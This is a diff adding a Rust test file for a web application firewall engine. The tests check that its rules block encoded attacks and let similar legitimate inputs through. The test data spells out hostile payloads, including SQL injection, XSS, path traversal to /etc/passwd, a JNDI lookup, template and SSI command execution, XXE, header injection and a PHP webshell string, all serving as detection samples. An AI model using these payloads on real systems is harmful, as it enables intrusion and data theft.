@@ -1,0 +1,328 @@
+//! The engine end to end: built-in rules over fields, encodings, policy and budget.
+
+use rampart_detect::{
+    Budget, BudgetLimits, Engine, Field, FieldKind, Location, Policy, RuleError, extract,
+};
+
+fn scan(kind: FieldKind, value: &str) -> rampart_detect::Findings {
+    let engine = Engine::builtin();
+    let mut budget = Budget::default();
+    engine.inspect(
+        [Field::new(
+            Location::new("query", "v"),
+            kind,
+            value.as_bytes(),
+        )],
+        &Policy::default(),
+        &mut budget,
+    )
+}
+
+fn blocks(kind: FieldKind, value: &str) -> bool {
+    scan(kind, value).blocks(Policy::default().threshold())
+}
+
+#[test]
+fn builtin_rules_compile() {
+    assert!(Engine::builtin().rules().count() > 40);
+}
+
+#[test]
+fn blocks_attacks_in_every_encoding() {
+    let q = FieldKind::QueryValue;
+    let attacks = [
+        (q, "1%27%20or%20%271%27%3D%271"),
+        (q, "%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
+        (q, "&lt;script&gt;alert(1)&lt;/script&gt;"),
+        (q, "&#x3C;img src=x onerror=alert(1)&#x3E;"),
+        (q, "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
+        (q, "JyBvciAnMSc9JzE="),
+        (q, "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
+        (
+            FieldKind::BodyValue,
+            r#"{"q":"1 union select password from users"}"#,
+        ),
+        (q, "a%3D1%26b%3D%27%20or%201%3D1--"),
+        (q, "..%252f..%252fetc%252fpasswd"),
+        (q, "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
+        (
+            FieldKind::HeaderValue,
+            "${${lower:j}ndi:ldap://x.example/a}",
+        ),
+        (q, "{{7*7}}"),
+        (q, "${T(java.lang.Runtime).getRuntime().exec('id')}"),
+        (q, "<%= system('id') %>"),
+        (FieldKind::BodyKey, "$where"),
+        (FieldKind::QueryName, "password[$ne]"),
+        (q, "*)(uid=*))(|(uid=*"),
+        (q, "<!--#exec cmd=\"id\"-->"),
+        (
+            FieldKind::BodyText,
+            "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
+        ),
+        (q, "http://0x7f.1/admin"),
+        (q, "x%0d%0aSet-Cookie:%20a=b"),
+        (FieldKind::BodyValue, "me@example.com\nBcc: all@example.com"),
+        (q, "php://filter/convert.base64-encode/resource=index.php"),
+        (q, "<?php system($_GET['c']); ?>"),
+        (q, "O:8:\"stdClass\":0:{}"),
+        (q, "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"),
+        (FieldKind::HeaderValue, "sqlmap/1.7"),
+        (FieldKind::Path, "/files/../../etc/passwd"),
+    ];
+    for (kind, a) in attacks {
+        assert!(blocks(kind, a), "missed {kind}: {a}\n{:?}", scan(kind, a));
+    }
+}
+
+#[test]
+fn passes_look_alike_legitimate_inputs() {
+    let q = FieldKind::QueryValue;
+    let legit = [
+        (q, "select your plan"),
+        (q, "O'Reilly"),
+        (q, "Drop us a line"),
+        (q, "1 or 2"),
+        (q, "echo in the mirror"),
+        (q, "cats & dogs"),
+        (q, "R&D"),
+        (q, "a < b"),
+        (q, "<3"),
+        (q, "Tom & Jerry"),
+        (q, "C# and F#"),
+        (q, "jane.doe+news@example.com"),
+        (q, "https://www.example.com/docs?page=2"),
+        (q, "how to use ../ in bash"),
+        (q, "{{name}}"),
+        (q, "Hello ${name}"),
+        (q, "100% natural"),
+        (q, "SGVsbG8gV29ybGQ="),
+        (
+            FieldKind::BodyValue,
+            r#"{"comment":"I'd like to union two sets"}"#,
+        ),
+        (FieldKind::BodyValue, "I'd like to union two sets"),
+        (FieldKind::BodyValue, "Line one.\nLine two: more text."),
+        (
+            FieldKind::HeaderValue,
+            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
+        ),
+        (
+            FieldKind::HeaderValue,
+            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
+        ),
+        (FieldKind::HeaderValue, "gzip, deflate, br"),
+        (FieldKind::Path, "/api/v1/users/42/orders"),
+        (q, "2024-05-01T10:00:00Z"),
+        (q, "(555) 123-4567"),
+        (q, "size: 10; color: red"),
+    ];
+    for (kind, l) in legit {
+        assert!(!blocks(kind, l), "flagged {kind}: {l}\n{:?}", scan(kind, l));
+    }
+}
+
+#[test]
+fn head_fields_cover_path_query_cookies_and_headers() {
+    let uri: http::Uri = "/search/../admin?q=hello&id=1%27%20or%20%271%27%3D%271&flag"
+        .parse()
+        .unwrap();
+    let mut headers = http::HeaderMap::new();
+    headers.insert("cookie", "sid=abc; theme=dark".parse().unwrap());
+    headers.insert("x-custom", "${jndi:ldap://x}".parse().unwrap());
+    headers.insert("authorization", "Basic JyBvciAnMSc9JzE=".parse().unwrap());
+    let head = extract::head_fields(&uri, &headers);
+    assert_eq!((head.query_params, head.cookies), (3, 2));
+    let engine = Engine::builtin();
+    let findings = engine.inspect(head.fields, &Policy::default(), &mut Budget::default());
+    let mut locations: Vec<&str> = findings.hits.iter().map(|h| h.location.as_str()).collect();
+    locations.sort_unstable();
+    locations.dedup();
+    assert_eq!(
+        locations,
+        ["header:x-custom", "path", "query:id"],
+        "{findings:?}"
+    );
+}
+
+#[test]
+fn policy_exclusions_detect_only_and_paranoia() {
+    let engine = Engine::builtin();
+    let policy = Policy::from_toml(
+        r#"
+        detect_only_classes = ["xss"]
+        [[exclusions]]
+        classes = ["sqli"]
+        locations = ["json:/comment*"]
+        "#,
+        &engine,
+    )
+    .unwrap();
+    let fields = [
+        Field::new(
+            Location::new("json", "/comment/0"),
+            FieldKind::BodyValue,
+            b"' or '1'='1",
+        ),
+        Field::new(
+            Location::new("json", "/bio"),
+            FieldKind::BodyValue,
+            b"<script>alert(1)</script>",
+        ),
+    ];
+    let findings = engine.inspect(fields.clone(), &policy, &mut Budget::default());
+    assert!(findings.hits.iter().all(|h| h.class != "sqli"));
+    assert!(
+        findings
+            .hits
+            .iter()
+            .any(|h| h.class == "xss" && h.detect_only)
+    );
+    assert!(!findings.blocks(policy.threshold()));
+    let strict = engine.inspect(fields, &Policy::default(), &mut Budget::default());
+    assert!(strict.blocks(5));
+    // Paranoia 2 adds rules that stay off at 1.
+    let v = [Field::new(
+        Location::new("query", "x"),
+        FieldKind::QueryValue,
+        b"a\r\nX-Injected: 1",
+    )];
+    let pl1 = engine.inspect(v.clone(), &Policy::default(), &mut Budget::default());
+    let pl2 = engine.inspect(
+        v,
+        &Policy::default().with_paranoia(2),
+        &mut Budget::default(),
+    );
+    assert!(
+        pl1.hits.is_empty() && !pl2.hits.is_empty(),
+        "{pl1:?} {pl2:?}"
+    );
+}
+
+#[test]
+fn policy_problems_name_their_keys() {
+    let engine = Engine::builtin();
+    let err = Policy::from_toml(
+        "paranoia = 7\nthreshold = 0\ndisabled_rules = [\"nope-1\"]\n[[exclusions]]\nclasses = [\"nope\"]\nlocations = []\n",
+        &engine,
+    )
+    .unwrap_err()
+    .to_string();
+    for key in [
+        "paranoia",
+        "threshold",
+        "disabled_rules",
+        "exclusions[0].classes",
+        "exclusions[0].locations",
+    ] {
+        assert!(err.contains(key), "{key} missing in {err}");
+    }
+    assert!(Policy::from_toml("paranoid = 1", &engine).is_err());
+}
+
+#[test]
+fn extra_rules_load_and_bad_rules_are_reported_by_id() {
+    let engine = Engine::with_extra_rules(
+        r#"
+        [[rule]]
+        id = "local-001"
+        description = "internal debug switch"
+        class = "local"
+        targets = ["query-value"]
+        paranoia = 1
+        score = 5
+        pattern = '(?i)\bdebug_mode_on\b'
+        literals = ["debug_mode"]
+        "#,
+    )
+    .unwrap();
+    let f = [Field::new(
+        Location::new("query", "x"),
+        FieldKind::QueryValue,
+        b"DEBUG_MODE_ON",
+    )];
+    assert_eq!(
+        engine
+            .inspect(f, &Policy::default(), &mut Budget::default())
+            .hits[0]
+            .rule_id,
+        "local-001"
+    );
+
+    let bad = r#"
+        [[rule]]
+        id = "sqli-001"
+        description = "dup"
+        class = "sqli"
+        targets = ["values"]
+        paranoia = 1
+        score = 5
+        detector = "sqli"
+        [[rule]]
+        id = "bad-002"
+        description = "broken"
+        class = "Bad"
+        targets = ["nowhere"]
+        paranoia = 9
+        score = 5
+        pattern = "("
+        "#;
+    let err = Engine::with_extra_rules(bad).unwrap_err();
+    let text = err.to_string();
+    for needle in [
+        "bad-002: class",
+        "bad-002: targets",
+        "bad-002: paranoia",
+        "bad-002: pattern",
+    ] {
+        assert!(text.contains(needle), "{needle} missing in {text}");
+    }
+    let RuleError::Invalid(_) =
+        Engine::with_extra_rules(&bad[..bad.find("[[rule]]\n        id = \"bad").unwrap()])
+            .unwrap_err()
+    else {
+        panic!("duplicate id not reported as invalid");
+    };
+    assert!(matches!(
+        Engine::with_extra_rules("[[rule]]\nid = 1"),
+        Err(RuleError::Parse(_))
+    ));
+}
+
+#[test]
+fn budget_exhaustion_is_reported() {
+    let engine = Engine::builtin();
+    let mut s = String::from("x");
+    for _ in 0..10 {
+        s = s.replace('%', "%25") + "%27";
+    }
+    let mut budget = Budget::new(BudgetLimits {
+        max_layers: 2,
+        ..BudgetLimits::default()
+    });
+    let findings = engine.inspect(
+        [Field::new(
+            Location::new("query", "x"),
+            FieldKind::QueryValue,
+            s.as_bytes(),
+        )],
+        &Policy::default(),
+        &mut budget,
+    );
+    assert!(findings.undecided.is_some());
+}
+
+#[test]
+fn fragments_are_short_and_escaped() {
+    let payload = format!("x\r\nSet-Cookie: {}", "a".repeat(500));
+    let f = scan(FieldKind::QueryValue, &payload);
+    let hit = &f.hits[0];
+    assert!(!hit.fragment.contains('\n') && !hit.fragment.contains('\r'));
+    assert!(hit.fragment.chars().count() <= 64 * 10);
+}
+
+#[test]
+fn engine_is_shareable() {
+    fn assert_send_sync<T: Send + Sync + Clone>() {}
+    assert_send_sync::<Engine>();
+}
